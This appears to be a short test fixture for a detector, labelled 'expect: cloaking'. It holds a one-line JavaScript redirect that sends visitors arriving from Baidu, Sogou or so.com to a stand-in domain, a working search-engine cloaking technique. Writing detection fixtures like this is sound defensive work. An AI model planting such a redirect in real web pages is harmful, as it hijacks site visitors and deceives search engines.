// expect: cloaking
// expect line is the first line
(function(){var r=document.referrer;if(/baidu|sogou|so\.com/.test(r)){window.location.href='https://xpj.example.top/';}})();
